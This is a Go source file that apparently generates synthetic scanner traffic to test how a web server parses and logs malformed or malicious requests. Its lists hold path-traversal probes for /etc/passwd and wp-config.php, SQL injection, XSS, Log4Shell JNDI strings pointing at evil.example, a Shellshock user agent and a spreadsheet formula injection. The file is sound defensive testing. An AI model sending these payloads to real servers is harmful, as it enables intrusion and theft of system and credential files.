package main

import (
	"bytes"
	"crypto/tls"
	"errors"
	"fmt"
	"math/rand/v2"
	"net"
	"strings"
	"time"
)

// scan is what somebody who looks for holes sends. One half are requests that only mean harm; they are well formed, and
// Go's own server reads them too. The other half is no HTTP request.
func scan(r *rand.Rand, start time.Duration) []request {
	c := client{source: loopback(66), address: "203.0.113.250", agent: "zgrab/0.x"}
	at := start
	next := func() time.Duration {
		at += between(r, 20*time.Millisecond, 250*time.Millisecond)
		return at
	}
	var requests []request
	for _, target := range hostileTargets(r) {
		requests = append(requests, c.send(next(), get(www, target)))
	}
	for i, agent := range hostileAgents() {
		c.agent = agent
		m := get(www, fmt.Sprintf("/user/%d", i+1)).with("Referer", hostileReferers()[i%len(hostileReferers())])
		requests = append(requests, c.send(next(), m))
	}
	c.agent = "masscan/1.3"
	for _, m := range oddMessages() {
		requests = append(requests, c.send(next(), m))
	}
	for i, wire := range garbage() {
		requests = append(requests, request{at: next(), source: loopback(70 + i%3), wire: wire, leaves: true})
	}
	return requests
}

// hostileTargets are well-formed targets with bad intentions.
func hostileTargets(r *rand.Rand) []string {
	return []string{
		"/../../etc/passwd",
		"/cgi-bin/.%2e/.%2e/.%2e/bin/sh",
		`/index.php?s=/../\think\app/invokefunction&function=phpinfo`,
		"/.env",
		"/.git/config",
		"//wp-login.php",
		"/wp-content/plugins/../../../wp-config.php",
		"/static/../admin/",
		"/static/..%2f..%2fetc%2fpasswd",
		"/search?q=%27%20OR%201%3D1--%20&q=<script>alert(1)</script>",
		"/search?q=${jndi:ldap://evil.example/a}",
		"/index.html?a=\"quoted\"&b='single'",
		"/caf\xc3\xa9/men\xfc", // raw bytes, the second of them no UTF-8
		"/search?q=" + strings.Repeat("A", 4000+r.IntN(1500)),
		"/a;jsessionid=1234?x=1;y=2#fragment",
		"/?",
		"/??&&==",
		"/img/product/",
	}
}

// hostileAgents are user agents that try every reader of the log, from quotes to broken UTF-8.
func hostileAgents() []string {
	return []string{
		`Mozilla/5.0 "quoted" \back\slash`,
		`() { :; }; echo "x" | /bin/cat`,
		"${jndi:ldap://evil.example/x}",
		"Mozilla \xe9\xe8 latin1",
		"Браузер/1.0",
		"<script>alert('x')</script>",
		"=HYPERLINK(\"http://evil.example\")",
		"tab\there",
		"-",
		"ends with backslash \\",
	}
}

// hostileReferers are the same for the other field that everybody logs.
func hostileReferers() []string {
	return []string{"", `https://evil.example/"><b>`, "https://caf\xe9.example/", "https://пример.example/пути", `C:\temp\x.html`}
}

// oddMessages are requests HTTP allows, or nearly, and that hardly anybody sends.
func oddMessages() []message {
	return []message{
		{method: "GET", target: "http://other.example/", host: "other.example"},
		{method: "GET", target: "http://www.shop.example/user/7?via=proxy", host: www},
		{method: "OPTIONS", target: "*", host: www},
		{method: "GET", target: "/", protocol: "HTTP/1.0"}, // without Host, as HTTP/1.0 may
		{method: "GET", target: "/"},                       // without Host, as HTTP/1.1 may not
		{method: "PROPFIND", target: "/", host: www},
		{method: "TRACE", target: "/", host: www},
		{method: "CONNECT", target: "other.example:443", host: "other.example:443"},
		{method: "PRI", target: "*", protocol: "HTTP/2.0"},
		{method: "GET", target: "/", host: www, protocol: "HTTP/3.0"},
	}
}

// garbage is what arrives at a plain port and is no HTTP request at all.
func garbage() [][]byte {
	return [][]byte{
		clientHello(),
		[]byte("\r\n\r\n"),
		nil,
		[]byte("GET /\r\n"),
		[]byte("GET /user/5\n"),
		[]byte("\x16\x03\x01\x00\xee\x01\x00\x00\xea\x03\x03\r\n\r\n"),
		[]byte("\x03\x00\x00/*\xe0\x00\x00\x00\x00\x00Cookie: mstshash=Administr\r\n"),
		[]byte("\x00\x01\x02\x7f\x80\xff\xfe binary \"quote\" \\\r\n\r\n"),
		[]byte("\x05\x01\x00"),
		[]byte("SSH-2.0-Go\r\n"),
		[]byte("*1\r\n$4\r\nPING\r\n"),
		[]byte("get / http/1.1\r\nhost: www.shop.example\r\n\r\n"),
		[]byte("GET  HTTP/1.1\r\n\r\n"),
		[]byte("GET / HTTP/1.1 extra\r\n\r\n"),
	}
}

// clientHello is the first thing a real TLS client says to a server it believes to speak TLS.
func clientHello() []byte {
	var said recording
	// One small key exchange keeps the line short; nobody answers, so the handshake fails as it should.
	hello := tls.Client(&said, &tls.Config{ServerName: www, CurvePreferences: []tls.CurveID{tls.X25519}})
	_ = hello.Handshake()
	return said.Bytes()
}

// recording is a connection that remembers what was written to it and never answers.
type recording struct {
	net.Conn
	bytes.Buffer
}

func (c *recording) Read([]byte) (int, error)         { return 0, errors.New("nobody is there") }
func (c *recording) Write(p []byte) (int, error)      { return c.Buffer.Write(p) }
func (c *recording) Close() error                     { return nil }
func (c *recording) SetDeadline(time.Time) error      { return nil }
func (c *recording) SetWriteDeadline(time.Time) error { return nil }
